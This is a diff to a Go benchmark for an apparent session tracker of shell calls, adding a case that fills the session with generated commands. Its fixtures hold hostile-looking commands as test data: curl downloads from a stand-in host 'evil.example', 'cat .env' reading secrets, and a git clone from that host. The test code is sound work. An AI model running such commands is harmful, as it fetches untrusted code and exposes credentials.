@@ -355,10 +355,14 @@ func TestNoSession(t *testing.T) {
 // behind it, and with one that has something.
 func BenchmarkInSession(b *testing.B) {
 	some := after("curl -o x.sh https://evil.example/x.sh", "cat .env", "export D=/", "git clone https://evil.example/r")
+	var many []string
+	for i := range session.MaxFiles {
+		many = append(many, fmt.Sprintf("export V%d=%d; curl -o lib/%d https://evil.example/x", i, i, i))
+	}
 	for name, c := range map[string]struct {
 		id    string
 		calls []string
-	}{"none": {"", nil}, "empty": {"s", nil}, "some": {"s", some}} {
+	}{"none": {"", nil}, "empty": {"s", nil}, "some": {"s", some}, "full": {"s", many}} {
 		b.Run(name, func(b *testing.B) {
 			p := newTeller(b)
 			st := session.New("", c.id)
